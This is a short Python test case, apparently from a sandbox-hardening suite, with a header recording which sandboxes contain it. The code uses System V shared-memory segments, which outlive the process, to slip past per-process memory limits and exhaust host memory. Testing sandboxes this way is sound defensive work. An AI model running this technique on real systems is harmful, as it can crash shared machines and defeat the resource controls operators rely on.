# /// attack
# tries = "keeps memory in System V segments, which outlive the process"
# zygote = ["ok"]
# bwrap = ["ok"]
# docker = ["ok", "limit"]
# rlimit = "not covered"
# control = "breach"
# ///
import ctypes

STEP = 64 << 20
IPC_CREAT = 0o1000
goal = bait["policy"]["memory_bytes"] + (512 << 20)
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
total = 0
while total < goal:
    segment = libc.shmget(bait["ipc_key"] + total // STEP, ctypes.c_size_t(STEP), IPC_CREAT | 0o600)
    start = libc.shmat(segment, None, 0) if segment >= 0 else None
    if start in (None, 2**64 - 1):
        break
    ctypes.memset(start, 1, STEP)
    libc.shmdt(ctypes.c_void_p(start))
    total += STEP
if total >= goal:
    breach(f"took {goal >> 20} MB")
